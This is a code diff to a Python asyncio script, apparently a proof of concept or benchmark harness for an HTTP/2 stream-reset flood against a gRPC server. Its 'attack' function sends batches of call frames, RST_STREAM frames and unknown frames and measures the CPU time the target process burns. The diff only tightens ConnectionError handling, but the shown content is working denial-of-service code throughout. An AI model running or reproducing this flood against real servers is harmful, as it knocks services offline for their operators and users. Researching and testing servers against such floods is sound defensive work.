@@ -20,6 +20,7 @@ from __future__ import annotations
 
 import argparse
 import asyncio
+import contextlib
 import struct
 import sys
 import tempfile
@@ -163,22 +164,23 @@ async def attack(address: str, pid: int, pairs: int, at_the_pool: bool) -> tuple
     while sent < pairs and client.goaway is None and not client.task.done():
         streams = list(range(stream, stream + 4 * BATCH, 4))
         stream += 4 * BATCH
-        if at_the_pool:
-            client.writer.write(
-                b"".join(call_frames(s, SLEEP_BODY) + unknown(s + 2) for s in streams)
-            )
-            await client.sync()
-            await asyncio.sleep(0.005)
-            client.writer.write(b"".join(reset(s) for s in streams))
-        else:
-            chunk = lambda s: call_frames(s, GRPC_BODY) + reset(s) + unknown(s + 2)  # noqa: E731
-            client.writer.write(b"".join(chunk(s) for s in streams))
         try:
+            if at_the_pool:
+                client.writer.write(
+                    b"".join(call_frames(s, SLEEP_BODY) + unknown(s + 2) for s in streams)
+                )
+                await client.sync()
+                await asyncio.sleep(0.005)
+                client.writer.write(b"".join(reset(s) for s in streams))
+            else:
+                chunk = lambda s: call_frames(s, GRPC_BODY) + reset(s) + unknown(s + 2)  # noqa: E731
+                client.writer.write(b"".join(chunk(s) for s in streams))
             await client.sync()
         except ConnectionError:
             break
         sent += len(streams)
-    await client.sync()
+    with contextlib.suppress(ConnectionError):
+        await client.sync()
     used = cpu_s(pid) - before
     taken = sent if client.goaway is None else (client.goaway + 3) // 4
     await client.close()
